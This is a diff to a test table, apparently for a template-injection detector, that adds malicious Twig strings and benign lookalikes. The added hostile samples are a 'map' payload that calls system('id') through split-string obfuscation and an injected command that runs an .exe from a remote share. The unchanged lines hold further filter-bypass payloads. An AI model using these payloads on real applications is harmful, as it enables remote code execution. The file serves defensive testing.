@@ -40,6 +40,8 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '{{ x|attr("%c%cclass%c%c"|format(95,95,95,95)) }}',
       "{{ a|attr('__cla'~'ss__') }}",
       "{{grav.twig.twig.extensions.core.setEscaper('system','twig_array_filter')}}",
+      "{{['id']|map('sy'~'stem')|join}}",
+      '1&\\\\203.0.113.7@80\\share\\x.exe',
     ],
     honest: [
       "include: 'https://git.example/ci.yml'",
@@ -51,6 +53,8 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '[% INCLUDE header.tt %]',
       '[% PROCESS common/macros.tt %]',
       "{{ x|attr('name') }}",
+      "{{ users|map('name')|join(', ') }}",
+      "{{ items|sort('x') ~ 'y' }}",
       '{{ item | attr("class") | upper }}',
       "`${$t('a')}[b]`",
     ],
